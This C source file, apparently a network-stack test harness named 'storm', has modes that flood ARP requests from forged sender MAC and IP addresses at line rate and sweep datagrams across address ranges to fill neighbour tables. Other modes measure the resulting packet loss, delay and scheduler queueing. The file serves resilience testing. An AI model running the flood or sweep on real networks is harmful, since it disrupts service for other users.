// SPDX-License-Identifier: BSD-2-Clause
/* What an attack is made of, and what tells whether others suffer from it.
 *
 *	storm flood IFNAME MAC ADDRESS COUNT	ARP requests for ADDRESS, each from another sender, as fast as the device takes them
 *	storm sweep ADDRESS COUNT [PER_S]	a datagram to each of so many addresses from there on; not more in a second
 *	storm echo PORT [ADDRESS]		send back what comes, until SIGTERM; with an IPv6 address, by IPv6
 *	storm talk ADDRESS PORT MS		a numbered datagram each MS, until SIGTERM: how many came back
 *	storm meet ADDRESS PORT [PID]		until the first answer: how long it took, and how long of it that process could
 *						have run but had no processor
 *
 * One line of JSON each.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BURST 64
#define FRAME_BYTES 60
#define SWEEP_EACH 100 /* what waits counts against the buffer of its socket */
#define NUMBERS_MAX 1000000
#define LAST_ANSWERS_S 2.0
#define MEET_S 8.0
#define REFUSED_MS 50 /* until one that was refused is sent again */

static volatile sig_atomic_t ended;

static void end(int signo)
{
	(void)signo;
	ended = 1;
}

static void die(const char *what)
{
	perror(what);
	exit(1);
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/** union place - an address of either family, and a port */
union place {
	struct sockaddr any;
	struct sockaddr_in v4;
	struct sockaddr_in6 v6;
};

static union place place(const char *text, const char *port)
{
	union place p = { .v4 = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port)) } };

	if (inet_pton(AF_INET, text, &p.v4.sin_addr) == 1)
		return p;
	p.v6 = (struct sockaddr_in6){ .sin6_family = AF_INET6, .sin6_port = htons((uint16_t)atoi(port)) };
	if (inet_pton(AF_INET6, text, &p.v6.sin6_addr) != 1)
		die(text);
	return p;
}

static socklen_t place_len(const union place *p)
{
	return p->any.sa_family == AF_INET ? sizeof(p->v4) : sizeof(p->v6);
}

static int udp_socket(const union place *p)
{
	int fd = socket(p->any.sa_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		die("socket");
	return fd;
}

/* What a table that is full refuses is to be heard of, and that nobody is there. */
static void hear_errors(int fd, const union place *p)
{
	if (p->any.sa_family == AF_INET)
		setsockopt(fd, IPPROTO_IP, IP_RECVERR, &(int){ 1 }, sizeof(int));
	else
		setsockopt(fd, IPPROTO_IPV6, IPV6_RECVERR, &(int){ 1 }, sizeof(int));
}

/* ---- flood */

/* Sender @i, of 10.79/16: an address and a MAC of its own. */
static void spoof(uint8_t *frame, uint32_t i)
{
	const uint8_t mac[ETH_ALEN] = { 0x02,      0x66, (uint8_t)(i >> 24), (uint8_t)(i >> 16), (uint8_t)(i >> 8),
					(uint8_t)i };
	const uint32_t ip = htonl(0x0a4f0000U | (i & 0xffffU));

	memcpy(frame + ETH_ALEN, mac, ETH_ALEN);
	memcpy(frame + 22, mac, ETH_ALEN);
	memcpy(frame + 28, &ip, sizeof(ip));
}

static int flood(const char *ifname, const char *mac, const char *target, uint32_t count)
{
	struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_halen = ETH_ALEN };
	static uint8_t frames[BURST][FRAME_BYTES];
	struct mmsghdr msgs[BURST] = { 0 };
	struct iovec iov[BURST];
	uint32_t sent = 0, tip = place(target, "0").v4.sin_addr.s_addr;
	unsigned m[ETH_ALEN];
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0), bypass = 1;
	double began;

	to.sll_ifindex = (int)if_nametoindex(ifname);
	if (fd < 0 || !to.sll_ifindex || bind(fd, (struct sockaddr *)&to, sizeof(to)))
		die(ifname);
	setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &bypass, sizeof(bypass));
	if (sscanf(mac, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6)
		die(mac);
	for (int i = 0; i < BURST; i++) {
		static const uint8_t head[] = { 0x08, 0x06, 0, 1, 8, 0, 6, 4, 0, 1 };

		for (int b = 0; b < ETH_ALEN; b++)
			frames[i][b] = (uint8_t)m[b];
		memcpy(frames[i] + 12, head, sizeof(head));
		memcpy(frames[i] + 38, &tip, sizeof(tip));
		iov[i] = (struct iovec){ frames[i], FRAME_BYTES };
		msgs[i].msg_hdr.msg_iov = &iov[i];
		msgs[i].msg_hdr.msg_iovlen = 1;
	}
	began = now();
	while (sent < count) {
		uint32_t burst = count - sent < BURST ? count - sent : BURST;
		int n;

		for (uint32_t i = 0; i < burst; i++)
			spoof(frames[i], sent + i);
		n = sendmmsg(fd, msgs, burst, 0);
		if (n < 0 && errno != ENOBUFS)
			die("sendmmsg");
		sent += n > 0 ? (uint32_t)n : 0;
	}
	printf("{\"sent\":%u,\"seconds\":%.3f}\n", sent, now() - began);
	return 0;
}

/* ---- sweep */

/* The address that is @i after that of @first. */
static union place place_after(const union place *first, uint32_t i)
{
	union place to = *first;
	uint32_t last;

	if (to.any.sa_family == AF_INET) {
		to.v4.sin_addr.s_addr = htonl(ntohl(to.v4.sin_addr.s_addr) + i);
		return to;
	}
	memcpy(&last, to.v6.sin6_addr.s6_addr + 12, sizeof(last));
	last = htonl(ntohl(last) + i);
	memcpy(to.v6.sin6_addr.s6_addr + 12, &last, sizeof(last));
	return to;
}

static void wait_until(double when)
{
	double left = when - now();

	if (left > 0.001)
		poll(NULL, 0, (int)(left * 1000));
}

static int sweep(const char *text, uint32_t count, uint32_t per_s)
{
	union place first = place(text, "9");
	uint32_t sent = 0, refused = 0;
	double began = now();
	int fd = -1;

	for (uint32_t i = 0; i < count; i++) {
		union place to = place_after(&first, i);

		if (i % SWEEP_EACH == 0) {
			if (per_s)
				wait_until(began + (double)i / per_s);
			if (fd >= 0)
				close(fd);
			fd = udp_socket(&to);
			hear_errors(fd, &to);
		}
		if (sendto(fd, "x", 1, MSG_DONTWAIT, &to.any, place_len(&to)) == 1)
			sent++;
		else
			refused++;
	}
	close(fd);
	printf("{\"sent\":%u,\"refused\":%u,\"seconds\":%.3f}\n", sent, refused, now() - began);
	return 0;
}

/* ---- echo */

/* The answer leaves from the address that was asked, by whatever device leads to who asked. */
static void forget_device(struct cmsghdr *cmsg)
{
	struct in_pktinfo *info = (struct in_pktinfo *)(void *)CMSG_DATA(cmsg);

	if (cmsg->cmsg_level == IPPROTO_IPV6) {
		((struct in6_pktinfo *)(void *)info)->ipi6_ifindex = 0;
		return;
	}
	info->ipi_ifindex = 0;
	info->ipi_spec_dst = info->ipi_addr;
}

static int echo(const char *port, const char *at)
{
	union place any = place(at, port), from;
	int fd = udp_socket(&any), room = 4 << 20;
	char buf[2048], control[CMSG_SPACE(sizeof(struct in6_pktinfo))];
	struct iovec iov = { buf, sizeof(buf) };
	ssize_t n;

	setsockopt(fd, SOL_SOCKET, SO_RCVBUFFORCE, &room, sizeof(room));
	if (any.any.sa_family == AF_INET)
		setsockopt(fd, IPPROTO_IP, IP_PKTINFO, &(int){ 1 }, sizeof(int));
	else
		setsockopt(fd, IPPROTO_IPV6, IPV6_RECVPKTINFO, &(int){ 1 }, sizeof(int));
	if (bind(fd, &any.any, place_len(&any)))
		die("bind");
	puts("{\"listening\":true}");
	fflush(stdout);
	while (!ended) {
		struct msghdr msg = { .msg_name = &from,
				      .msg_namelen = sizeof(from),
				      .msg_iov = &iov,
				      .msg_iovlen = 1,
				      .msg_control = control,
				      .msg_controllen = sizeof(control) };

		iov.iov_len = sizeof(buf);
		n = recvmsg(fd, &msg, 0);
		if (n < 0 || !CMSG_FIRSTHDR(&msg))
			continue;
		forget_device(CMSG_FIRSTHDR(&msg));
		iov.iov_len = (size_t)n;
		if (sendmsg(fd, &msg, 0) < 0)
			perror("sendmsg");
	}
	return 0;
}

/* ---- talk */

static uint8_t seen[NUMBERS_MAX];
static uint32_t came, doubled;
static double slowest;

/** struct number - a datagram of talk */
struct number {
	uint32_t number;
	double sent_at;
};

static void hear(int fd, uint32_t sent)
{
	struct number n;

	while (recv(fd, &n, sizeof(n), MSG_DONTWAIT) == (ssize_t)sizeof(n)) {
		if (n.number >= sent)
			continue;
		doubled += seen[n.number];
		came += !seen[n.number];
		seen[n.number] = 1;
		if (now() - n.sent_at > slowest)
			slowest = now() - n.sent_at;
	}
}

static void hear_until(int fd, uint32_t sent, double until)
{
	struct pollfd p = { .fd = fd, .events = POLLIN };
	double left;

	while ((left = until - now()) > 0 && !(ended && came == sent)) {
		if (poll(&p, 1, (int)(left * 1000) + 1) < 0 && errno != EINTR)
			die("poll");
		hear(fd, sent);
	}
}

/* The signal that ends us may fall into a call that somebody else answers (seccomp): it is made again. */
static int send_whole(int fd, const void *data, size_t bytes)
{
	ssize_t n;

	do
		n = send(fd, data, bytes, 0);
	while (n < 0 && errno == EINTR);
	return n == (ssize_t)bytes ? 0 : -1;
}

static int talk(const char *to, const char *port, const char *ms)
{
	union place peer = place(to, port);
	double pause = atoi(ms) / 1000.0, next = now();
	uint32_t sent = 0, refused = 0, first_lost = 0;
	int why = 0, fd = udp_socket(&peer),
	    room = 4 << 20; /* for all answers of some seconds, should they come at once */

	setsockopt(fd, SOL_SOCKET, SO_RCVBUFFORCE, &room, sizeof(room));
	if (connect(fd, &peer.any, place_len(&peer)))
		die("connect");
	for (; !ended && sent < NUMBERS_MAX; next += pause) {
		struct number n = { sent++, now() };

		if (send_whole(fd, &n, sizeof(n))) {
			refused++;
			why = errno;
		}
		hear_until(fd, sent, next + pause);
	}
	hear_until(fd, sent, now() + LAST_ANSWERS_S);
	while (first_lost < sent && seen[first_lost])
		first_lost++;
	printf("{\"sent\":%u,\"lost\":%u,\"refused\":%u,\"errno\":%d,\"doubled\":%u,\"slowest_ms\":%.1f,\"first_lost\":%d}\n",
	       sent, sent - came, refused, why, doubled, slowest * 1000, first_lost < sent ? (int)first_lost : -1);
	return 0;
}

/* ---- meet */

/* How long a process was kept waiting for a processor since it began. */
static double queued_s(const char *pid)
{
	unsigned long long ran_ns, queued_ns;
	char path[64];
	FILE *file;
	int got;

	if (!pid)
		return 0;
	snprintf(path, sizeof(path), "/proc/%s/schedstat", pid);
	file = fopen(path, "r");
	if (!file)
		die(path);
	got = fscanf(file, "%llu %llu", &ran_ns, &queued_ns);
	fclose(file);
	return got == 2 ? (double)queued_ns / 1e9 : 0;
}

static int meet(const char *to, const char *port, const char *pid)
{
	union place peer = place(to, port);
	int fd = udp_socket(&peer), refused = 0;
	struct pollfd p = { .fd = fd, .events = POLLIN };
	double queued = queued_s(pid), began = now();
	bool waits = false;
	char byte = 'm';

	hear_errors(fd, &peer);
	if (connect(fd, &peer.any, place_len(&peer)))
		die("connect");
	while (now() < began + MEET_S) {
		if (waits || send(fd, &byte, 1, 0) == 1)
			waits = true; /* one datagram is to be enough */
		else
			refused++;
		if (poll(&p, 1, waits ? 1000 : REFUSED_MS) > 0 && recv(fd, &byte, 1, MSG_DONTWAIT) == 1) {
			printf("{\"seconds\":%.4f,\"queued\":%.4f,\"refused\":%d}\n", now() - began,
			       queued_s(pid) - queued, refused);
			return 0;
		}
		if (p.revents & POLLERR)
			waits = false; /* unreachable, it says */
	}
	printf("{\"seconds\":null,\"queued\":%.4f,\"refused\":%d}\n", queued_s(pid) - queued, refused);
	return 0;
}

int main(int argc, char **argv)
{
	struct sigaction sa = { .sa_handler = end };

	sigaction(SIGTERM, &sa, NULL);
	if (argc == 6 && !strcmp(argv[1], "flood"))
		return flood(argv[2], argv[3], argv[4], (uint32_t)atoi(argv[5]));
	if ((argc == 4 || argc == 5) && !strcmp(argv[1], "sweep"))
		return sweep(argv[2], (uint32_t)atoi(argv[3]), argc == 5 ? (uint32_t)atoi(argv[4]) : 0);
	if ((argc == 3 || argc == 4) && !strcmp(argv[1], "echo"))
		return echo(argv[2], argc == 4 ? argv[3] : "0.0.0.0");
	if (argc == 5 && !strcmp(argv[1], "talk"))
		return talk(argv[2], argv[3], argv[4]);
	if ((argc == 4 || argc == 5) && !strcmp(argv[1], "meet"))
		return meet(argv[2], argv[3], argv[4]);
	fprintf(stderr, "storm: see the source\n");
	return 2;
}
